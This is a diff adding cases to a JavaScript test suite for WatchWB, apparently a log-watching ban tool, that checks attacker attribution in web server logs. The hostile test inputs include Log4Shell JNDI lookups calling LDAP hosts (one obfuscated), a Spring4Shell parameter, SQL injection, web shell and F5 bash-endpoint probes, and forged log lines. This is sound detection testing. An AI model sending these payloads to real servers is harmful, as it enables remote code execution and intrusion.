@@ -93,6 +93,16 @@ describe('WatchWB rules', () => {
       access({ peer: '203.0.113.8', req: 'GET /.env HTTP/1.1', status: 404, inst: 'www.example.org:80', type: 'generic', user: '198.51.100.3 - -' }),
       access({ peer: '203.0.113.8', req: 'GET / HTTP/1.1', status: 200, inst: 'www.example.org:80', type: 'generic', ua: '${jndi:ldap://198.51.100.4:1389/x}' }),
       access({ peer: '203.0.113.8', req: 'GET /.env HTTP/1.1', status: 404, inst: 'www.example.org:80', type: 'generic', xff: '198.51.100.5' }),
+      // Payloads of the attack classes, each with an address, a forged tag or a forged line in client text.
+      access({ peer: '203.0.113.8', req: 'GET / HTTP/1.1', status: 200, inst: 'www.example.org:80', type: 'generic', user: '${jndi:ldap://198.51.100.6/a}' }),
+      access({ peer: '203.0.113.8', req: 'GET / HTTP/1.1', status: 200, inst: 'www.example.org:80', type: 'generic', ua: '${${upper:j}ndi:ldap://198.51.100.6/a} [Instance: blog.example.org:443]@wordpress' }),
+      access({ peer: '203.0.113.8', req: 'POST /?class.module.classLoader.x=198.51.100.7%20[Instance:%20blog.example.org:443]@wordpress HTTP/1.1', status: 200, inst: 'www.example.org:80', type: 'generic' }),
+      access({ peer: '203.0.113.8', req: 'GET /wso.php HTTP/1.1', status: 404, inst: 'www.example.org:80', type: 'generic', ref: '198.51.100.9 - - \\"GET /.env HTTP/1.1\\" 404 1 \\"-\\" \\"x\\" \\"-\\" [Instance: static.example.org:80]@static' }),
+      access({ peer: '203.0.113.8', req: 'GET / HTTP/1.1', status: 200, inst: 'www.example.org:80', type: 'generic', tag: 'nginx', ref: '\\x22 198.51.100.8 - - \\x22GET', ua: 'Hello, World' }),
+      access({ peer: '203.0.113.8', req: 'GET / HTTP/1.1', status: 200, inst: 'www.example.org:80', type: 'generic', ref: 'x\\" \\"Dec  2 20:00:00 web httpd: 198.51.100.10 - -', ua: 'sqlmap/1.7.2#stable (https://sqlmap.org)' }),
+      access({ peer: '203.0.113.8', req: "GET /item?id=1'%20OR%20'198.51.100.11'='198.51.100.11 HTTP/1.1", status: 200, inst: 'www.example.org:80', type: 'generic', xff: '198.51.100.11' }),
+      access({ peer: '203.0.113.8', req: 'SSH-2.0-198.51.100.12', status: 400, inst: 'www.example.org:80', type: 'generic' }),
+      access({ peer: '203.0.113.8', req: 'GET /mgmt/tm/util/bash?198.51.100.13 HTTP/1.1', status: 404, inst: 'www.example.org:80', type: 'generic', user: '198.51.100.13' }),
     ];
     for (const line of hostile) expect(verdict(line), line).toMatch(/^[a-z0-9-]+ 203\.0\.113\.8 www\.example\.org:80@generic$/);
   });
@@ -156,6 +166,9 @@ describe('WatchWB rules', () => {
     // apache 2.2's error lines: a user name or path that spells a client field names nobody else.
     expect(verdict('Dec  2 20:00:00 web httpd: [Sun Jun 09 07:57:47 2013] [error] [client 203.0.113.30] user [client 198.51.100.1] not found: /')).toBe('auth-error 203.0.113.30 -@generic');
     expect(verdict('Dec  2 20:00:00 web httpd: [Sun Jun 09 07:57:47 2013] [error] [client 203.0.113.31] File does not exist: /var/www/phpmyadmin/[client 198.51.100.1] x')).toBe('probe-not-found 203.0.113.31 -@generic');
+    expect(verdict('Dec  2 20:00:00 web httpd: [core:info] [pid 812] [client 203.0.113.32:4711] AH00128: File does not exist: /var/www/wp-login.php/[client 198.51.100.1:1] x [Instance: static.example.org:80]@static')).toBe('probe-not-found 203.0.113.32 static.example.org:80@static');
+    // A request that spells nginx's tail makes the FastCGI line ambiguous too: nobody is counted.
+    expect(verdict('Dec  2 20:00:00 web nginx: 2026/12/02 20:00:00 [error] 812#812: *13 FastCGI sent in stderr: "Primary script unknown" while reading response header from upstream, client: 203.0.113.22, server: www.example.org, request: "GET /x.php?a, client: 198.51.100.1, server: www.example.org, request: "x HTTP/1.1", host: "www.example.org"')).toBe('script-not-found - www.example.org@generic');
     // A request line that spells nginx's own tail: both addresses fit, neither is counted.
     const forged = 'Dec  2 20:00:00 web nginx: 2026/12/02 20:00:00 [error] 812#812: *12 access forbidden by rule, client: 203.0.113.21, server: www.example.org, request: "GET /a, client: 198.51.100.1, server: www.example.org, request: "x HTTP/1.1", host: "www.example.org"';
     expect(verdict(forged)).toBe('client-denied - www.example.org@generic');
